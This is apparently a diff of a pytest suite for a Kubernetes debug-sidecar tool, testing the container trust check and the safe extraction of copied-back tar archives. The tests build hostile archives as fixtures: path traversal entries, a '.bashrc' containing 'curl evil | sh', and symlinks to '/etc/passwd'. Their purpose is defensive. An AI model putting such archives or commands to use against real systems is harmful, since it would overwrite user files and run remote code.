@@ -1,11 +1,12 @@
-"""Session commands without a cluster: container discovery, ephemeral container bodies, and the
-tar-over-exec copy (with a fake exec)."""
+"""Session commands without a cluster: container discovery and its trust check, and the
+tar-over-exec copy-back of hostile archives (with a fake exec)."""
 
 from __future__ import annotations
 
 import base64
 import io
 import json
+import os
 import tarfile
 from collections.abc import Sequence
 from pathlib import Path
@@ -13,8 +14,12 @@ from typing import Any
 
 import pytest
 
+from webhook import constants
 from webhook.commands import cli
 from webhook.sessions import session as sessions
+
+TOOLSET = "localhost/sidecar-debug/toolset:0.1.0"
+MARKER = {"name": constants.ENV_ATTACHED, "value": "true"}
 
 
 def pod(containers: Sequence[str], *, status: dict[str, Any] | None = None,
@@ -23,7 +28,7 @@ def pod(containers: Sequence[str], *, status: dict[str, Any] | None = None,
     return {
         "metadata": {"name": "web", "annotations": annotations},
         "spec": {"containers": [{"name": n} for n in containers],
-                 "ephemeralContainers": [{"name": n} for n in ephemeral]},
+                 "ephemeralContainers": [{"name": n, "env": [MARKER]} for n in ephemeral]},
         "status": {"ephemeralContainerStatuses": [
             {"name": n, "state": {"running": {}}} for n in running]},
     }
@@ -40,11 +45,26 @@ def test_configured_sidecar_name_without_annotation() -> None:
                                            "debug-toolset") == "debug-toolset"
 
 
+@pytest.mark.parametrize("value", [[], {}, 5, None, ""])
+def test_a_malformed_status_annotation_falls_back_to_the_sidecar_name(value: Any) -> None:
+    assert sessions.find_toolset_container(
+        pod(["debug-toolset", "app"], status={"container": value}), None, "debug-toolset",
+    ) == "debug-toolset"
+
+
 def test_newest_running_attached_container() -> None:
     manifest = pod(["app"], ephemeral=["debug-toolset-aaaaaa", "debug-toolset-bbbbbb", "other"],
                    running=["debug-toolset-aaaaaa", "debug-toolset-bbbbbb", "other"])
     assert sessions.find_toolset_container(manifest, None, "debug-toolset") == (
         "debug-toolset-bbbbbb")
+
+
+def test_an_ephemeral_container_without_our_marker_is_not_picked() -> None:
+    manifest = pod(["app"], running=["debug-toolset-cccccc"])
+    manifest["spec"]["ephemeralContainers"] = [{"name": "debug-toolset-cccccc", "image": "x"}]
+    with pytest.raises(sessions.SessionError) as raised:
+        sessions.find_toolset_container(manifest, None, "debug-toolset")
+    assert raised.value.code == sessions.EXIT_NO_TOOLSET
 
 
 def test_no_toolset_container_says_how_to_get_one() -> None:
@@ -60,13 +80,93 @@ def test_unknown_requested_container() -> None:
     assert raised.value.code == sessions.EXIT_USAGE
 
 
-def test_ephemeral_container_targets_the_app() -> None:
-    body = sessions.ephemeral_container("debug-toolset-x", "img:1", "app", "IfNotPresent", None)
-    assert body["targetContainerName"] == "app"
-    assert body["command"] == ["toolset-entrypoint"]
-    assert "securityContext" not in body  # forbidden on Kubernetes < 1.23
-    privileged = sessions.ephemeral_container("n", "i", "app", "Always", {"privileged": True})
-    assert privileged["securityContext"] == {"privileged": True}
+# --- is the chosen container really the toolset? ------------------------------------------------
+
+
+def injected_pod(*, annotation_names: str = "debug-toolset", sidecar_image: str = TOOLSET,
+                 running_image: str | None = None, app_image: str = "shop/web:1") -> dict[str, Any]:
+    status = {"container": annotation_names, "image": TOOLSET, "profile": "full"}
+    return {
+        "metadata": {"name": "web", "annotations": {
+            constants.ANNOTATION_STATUS: json.dumps(status)}},
+        "spec": {"containers": [
+            {"name": "debug-toolset", "image": sidecar_image,
+             "command": [constants.TOOLSET_ENTRYPOINT]},
+            {"name": "app", "image": app_image, "command": ["node", "app.js"]},
+        ]},
+        "status": {"containerStatuses": [
+            {"name": "debug-toolset", "image": running_image or sidecar_image},
+            {"name": "app", "image": f"docker.io/{app_image}"},
+        ]},
+    }
+
+
+def test_the_injected_toolset_running_the_installed_image_is_trusted() -> None:
+    manifest = injected_pod()
+    name = sessions.find_toolset_container(manifest, None, "debug-toolset")
+    sessions.verify_toolset_container(manifest, name, TOOLSET)
+
+
+def test_status_annotation_naming_the_app_container_is_refused() -> None:
+    """Anyone who may patch the pod can point the status annotation at the app container (and
+    its `image` at the app's image): the session must not exec there."""
+    manifest = injected_pod(annotation_names="app")
+    manifest["metadata"]["annotations"][constants.ANNOTATION_STATUS] = json.dumps(
+        {"container": "app", "image": "shop/web:1"})
+    name = sessions.find_toolset_container(manifest, None, "debug-toolset")
+    assert name == "app"
+    with pytest.raises(sessions.SessionError) as raised:
+        sessions.verify_toolset_container(manifest, name, TOOLSET)
+    assert raised.value.code == sessions.EXIT_NO_TOOLSET
+    assert "shop/web:1" in str(raised.value) and TOOLSET in str(raised.value)
+    # Without readable settings the image comes from the annotation the attacker wrote: the
+    # container must still run the toolset's entrypoint.
+    with pytest.raises(sessions.SessionError) as raised:
+        sessions.verify_toolset_container(manifest, name, None)
+    assert constants.TOOLSET_ENTRYPOINT in str(raised.value)
+
+
+def test_a_patched_sidecar_image_is_refused_in_spec_and_in_status() -> None:
+    with pytest.raises(sessions.SessionError):
+        sessions.verify_toolset_container(injected_pod(sidecar_image="evil:1"), "debug-toolset",
+                                          TOOLSET)
+    # `kubectl set image` changed the spec back, but the node still runs another image.
+    with pytest.raises(sessions.SessionError) as raised:
+        sessions.verify_toolset_container(injected_pod(running_image="evil:1"), "debug-toolset",
+                                          TOOLSET)
+    assert "the node runs image evil:1" in str(raised.value)
+
+
+def test_attached_container_needs_marker_and_image() -> None:
+    manifest = injected_pod()
+    manifest["spec"]["ephemeralContainers"] = [
+        {"name": "debug-toolset-aaaaaa", "image": TOOLSET, "env": [MARKER]},
+        {"name": "debug-toolset-bbbbbb", "image": TOOLSET},
+        {"name": "debug-toolset-cccccc", "image": "busybox", "env": [MARKER]},
+    ]
+    manifest["status"]["ephemeralContainerStatuses"] = [
+        {"name": "debug-toolset-aaaaaa", "image": TOOLSET},
+        {"name": "debug-toolset-bbbbbb", "image": TOOLSET},
+        {"name": "debug-toolset-cccccc", "image": "docker.io/library/busybox:latest"},
+    ]
+    sessions.verify_toolset_container(manifest, "debug-toolset-aaaaaa", TOOLSET)
+    for name in ("debug-toolset-bbbbbb", "debug-toolset-cccccc"):
+        with pytest.raises(sessions.SessionError):
+            sessions.verify_toolset_container(manifest, name, TOOLSET)
+
+
+@pytest.mark.parametrize(("a", "b", "same"), [
+    ("busybox", "docker.io/library/busybox:latest", True),
+    ("localhost/sidecar-debug/toolset:0.1.0", "localhost/sidecar-debug/toolset:0.1.0", True),
+    ("localhost/sidecar-debug/toolset:0.1.0", "localhost/sidecar-debug/toolset:0.2.0", False),
+    ("repo/x:1@sha256:aa", "other/y:2@sha256:aa", True),
+    ("repo/x:1@sha256:aa", "repo/x:1@sha256:bb", False),
+])
+def test_same_image(a: str, b: str, same: bool) -> None:
+    assert sessions.same_image(a, b) is same
+
+
+# --- copy-back -----------------------------------------------------------------------------------
 
 
 class FakeSession(sessions.Session):
@@ -75,44 +175,140 @@ class FakeSession(sessions.Session):
         self.archive = archive
         self.commands: list[list[str]] = []
 
-    def exec(self, command: Sequence[str], **_: Any) -> sessions.ExecResult:  # type: ignore[override]
+    def exec(self, command: Sequence[str], **_: Any) -> sessions.ExecResult:
         self.commands.append(list(command))
         return sessions.ExecResult(0, base64.b64encode(self.archive).decode(), "")
 
 
-def tar_of(files: dict[str, bytes]) -> bytes:
+def tar_of(files: dict[str, bytes], extra: Sequence[tarfile.TarInfo] = ()) -> bytes:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w") as archive:
         for name, data in files.items():
             info = tarfile.TarInfo(name)
             info.size = len(data)
+            info.mode = 0o4777  # setuid, world-writable: must not survive the copy
             archive.addfile(info, io.BytesIO(data))
+        for info in extra:
+            archive.addfile(info)
     return buffer.getvalue()
 
 
+def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = target
+    return info
+
+
+TRACE = {"trace.txt": b"events", "trace/metadata": b"ctf"}
+
+
+def trace_destinations(out: Path) -> dict[str, Path]:
+    return {"trace.txt": out / "trace.txt", "trace": out / "trace"}
+
+
 def test_fetch_copies_files_back(tmp_path: Path) -> None:
-    session = FakeSession(tar_of({"flamegraph.html": b"<html>", "trace/metadata": b"ctf"}))
-    written = session.fetch("/tmp/sidecar-debug/x", ["flamegraph.html", "trace"], tmp_path)
-    assert (tmp_path / "flamegraph.html").read_bytes() == b"<html>"
+    session = FakeSession(tar_of(TRACE))
+    session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
+    assert (tmp_path / "trace.txt").read_bytes() == b"events"
     assert (tmp_path / "trace" / "metadata").read_bytes() == b"ctf"
-    assert len(written) == 2
+    assert (tmp_path / "trace.txt").stat().st_mode & 0o7777 == 0o644
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no staging left
     assert "tar -cf -" in session.commands[0][-1]
 
 
-def test_fetch_refuses_paths_outside_the_target(tmp_path: Path) -> None:
-    session = FakeSession(tar_of({"../evil": b"x"}))
+def test_fetch_reads_small_files_without_writing_them(tmp_path: Path) -> None:
+    session = FakeSession(tar_of({"flamegraph.html": b"<html>", "summary.txt": b"hot: fib"}))
+    contents = session.fetch("/tmp/sidecar-debug/x", {"flamegraph.html": tmp_path / "f.html"},
+                             read=["summary.txt"])
+    assert contents == {"summary.txt": b"hot: fib"}
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.html"]
+
+
+HOSTILE = [
+    pytest.param(tar_of({**TRACE, "/etc/evil": b"x"}), "unsafe path", id="absolute"),
+    pytest.param(tar_of({**TRACE, "../evil": b"x"}), "unsafe path", id="parent"),
+    pytest.param(tar_of({**TRACE, "trace/../../evil": b"x"}), "unsafe path", id="inner-parent"),
+    pytest.param(tar_of({**TRACE, ".bashrc": b"curl evil | sh"}), "unexpected name",
+                 id="unexpected-name"),
+    pytest.param(tar_of(TRACE, [special("trace/link", tarfile.SYMTYPE, "/etc/passwd")]),
+                 "symbolic link", id="symlink"),
+    pytest.param(tar_of({"trace/metadata": b"ctf"},
+                        [special("trace.txt", tarfile.SYMTYPE, "../../.bashrc")]),
+                 "symbolic link", id="symlink-as-expected-name"),
+    pytest.param(tar_of(TRACE, [special("trace/hard", tarfile.LNKTYPE, "trace.txt")]),
+                 "hard link", id="hardlink"),
+    pytest.param(tar_of(TRACE, [special("trace/null", tarfile.CHRTYPE)]), "a device",
+                 id="device"),
+    pytest.param(tar_of(TRACE, [special("trace/fifo", tarfile.FIFOTYPE)]), "a device",
+                 id="fifo"),
+]
+
+
+@pytest.mark.parametrize(("archive", "why"), HOSTILE)
+def test_a_hostile_archive_writes_nothing(tmp_path: Path, archive: bytes, why: str) -> None:
+    home = tmp_path / "home"
+    out = home / "out"
+    session = FakeSession(archive)
+    with pytest.raises(sessions.SessionError) as raised:
+        session.fetch("/tmp/sidecar-debug/x", trace_destinations(out))
+    assert why in str(raised.value)
+    assert "nothing was written" in str(raised.value)
+    assert sorted(os.listdir(out)) == []  # not even the parts that were fine, nor staging
+    assert not (home / "evil").exists() and not (tmp_path / "evil").exists()
+
+
+def test_an_existing_file_is_never_overwritten_without_force(tmp_path: Path) -> None:
+    (tmp_path / "trace.txt").write_text("my notes")
+    session = FakeSession(tar_of(TRACE))
+    with pytest.raises(sessions.SessionError) as raised:
+        session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
+    assert raised.value.code == sessions.EXIT_USAGE and "--force" in str(raised.value)
+    assert (tmp_path / "trace.txt").read_text() == "my notes"
+    assert not (tmp_path / "trace").exists()
+    assert session.commands == []  # refused before anything ran in the pod
+
+
+def test_a_file_appearing_during_the_copy_is_not_overwritten(tmp_path: Path) -> None:
+    class Racing(FakeSession):
+        def exec(self, command: Sequence[str], **kw: Any) -> sessions.ExecResult:
+            (tmp_path / "trace.txt").write_text("written meanwhile")
+            return super().exec(command, **kw)
+
     with pytest.raises(sessions.SessionError):
-        session.fetch("/tmp/sidecar-debug/x", ["evil"], tmp_path / "out")
-    assert not (tmp_path / "evil").exists()
+        Racing(tar_of(TRACE)).fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
+    assert (tmp_path / "trace.txt").read_text() == "written meanwhile"
+
+
+def test_force_replaces_files_and_folders_and_links_without_following(tmp_path: Path) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("keep")
+    (tmp_path / "trace.txt").symlink_to(victim)
+    (tmp_path / "trace").mkdir()
+    (tmp_path / "trace" / "old").write_text("old")
+    FakeSession(tar_of(TRACE)).fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path),
+                                     force=True)
+    assert victim.read_text() == "keep"
+    assert not (tmp_path / "trace.txt").is_symlink()
+    assert (tmp_path / "trace.txt").read_bytes() == b"events"
+    assert sorted(os.listdir(tmp_path / "trace")) == ["metadata"]
 
 
 def test_fetch_of_an_incomplete_archive_says_so(tmp_path: Path) -> None:
-    whole = tar_of({"trace/metadata": b"ctf" * 4000})
+    whole = tar_of({"trace/metadata": b"ctf" * 4000, "trace.txt": b""})
     session = FakeSession(whole[: len(whole) // 2])
     with pytest.raises(sessions.SessionError) as raised:
-        session.fetch("/tmp/sidecar-debug/lttng-1", ["trace"], tmp_path)
+        session.fetch("/tmp/sidecar-debug/lttng-1", trace_destinations(tmp_path))
     assert "arrived incomplete" in str(raised.value)
     assert "/tmp/sidecar-debug/lttng-1" in str(raised.value)
+
+
+def test_a_missing_expected_name_is_an_error(tmp_path: Path) -> None:
+    session = FakeSession(tar_of({"trace.txt": b"events"}))
+    with pytest.raises(sessions.SessionError) as raised:
+        session.fetch("/tmp/sidecar-debug/x", trace_destinations(tmp_path))
+    assert "sent no trace" in str(raised.value)
+    assert not (tmp_path / "trace.txt").exists()
 
 
 class BatchedStream:
